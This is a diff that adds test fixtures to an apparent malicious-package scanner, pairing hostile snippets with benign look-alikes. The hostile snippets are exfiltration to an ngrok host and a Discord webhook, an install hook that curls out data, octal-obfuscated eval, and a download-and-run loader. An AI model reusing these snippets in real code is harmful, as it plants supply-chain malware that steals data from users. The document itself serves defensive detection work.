@@ -91,6 +91,17 @@ CASES = [
     ("STATIC-DEP-CONFUSION-PROBE",  # a wildcard in a CSP allow-list (coinley-pay's bundle) names no host
      (P, "pkg", sdist("pkg", module('import requests\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
      (P, "pkg", sdist("pkg", module('CSP = ["https://*.vercel.app", "https://*.ngrok-free.app", "https://*.pages.dev"]')))),
+    ("STATIC-PY-EXEC-OBFUSCATED",  # BlankOBF: builtins' names spelled in octal escapes
+     (P, "pkg", sdist("pkg", module('_e = eval("\\145\\166\\141\\154")\n_c = _e("\\143\\157\\155\\160\\151\\154\\145")'))),
+     (P, "pkg", sdist("pkg", module('RESET = "\\033[0m"\nprint("\\033[1m\\033[31m" + msg + RESET)\nvalue = eval("1 + 2")')))),
+    ("STATIC-INSTALL-HOOK-NETWORK",  # curl as a process argument list (free-net-vpn)
+     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_output(["curl", URL + "/?d=" + data])'))),
+     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_output(["git", "describe", "--tags"])')))),
+    ("STATIC-DOWNLOAD-RUN-SCRIPT",  # the loader written with mode "w+" (manyhttps)
+     (P, "pkg", sdist("pkg", module('import urllib.request, subprocess\nx = urllib.request.urlopen(U).read()\n'
+                                    'with open("pip.py", "w+") as f:\n    f.write(x)\nsubprocess.Popen(["python", "pip.py"])'))),
+     (P, "pkg", sdist("pkg", module('import urllib.request, subprocess\nx = urllib.request.urlopen(U).read()\n'
+                                    'with open("data.json", "w+") as f:\n    f.write(x)\nsubprocess.Popen(["git", "status"])')))),
     ("STATIC-WEBHOOK-EXFIL",
      (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://discord.com/api/webhooks/123456/abcdef", json=d)'))),
      (P, "pkg", sdist("pkg", module('DOCS = "https://discord.com/developers/docs/resources/webhook"')))),
